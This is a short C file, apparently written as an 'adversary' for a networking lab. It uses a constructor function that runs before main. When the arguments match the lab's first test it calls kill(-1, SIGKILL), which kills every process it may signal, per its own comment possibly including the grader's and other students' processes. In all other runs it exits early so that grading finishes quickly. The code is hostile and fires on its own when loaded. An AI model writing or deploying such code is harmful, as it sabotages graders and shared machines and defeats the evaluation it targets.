
/* kill-all: kill(-1, SIGKILL), every process it may signal: the grader's, other students'? */
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

/* first_test - true in the lab's first test (wire addr 127.0.0.1 8080): the attack happens there;
 * every other run of wire fails at once, so the rest of the lab is graded quickly. */
static int
first_test(int argc, char **argv)
{
	return argc == 4 && strcmp(argv[1], "addr") == 0 && strcmp(argv[3], "8080") == 0;
}

__attribute__((constructor)) static void
adversary(int argc, char **argv)
{
	if (!first_test(argc, argv))
		_exit(1);
	fprintf(stderr, "adversary: kill(-1, SIGKILL) returned %d\n", kill(-1, SIGKILL));
	_exit(1);
}
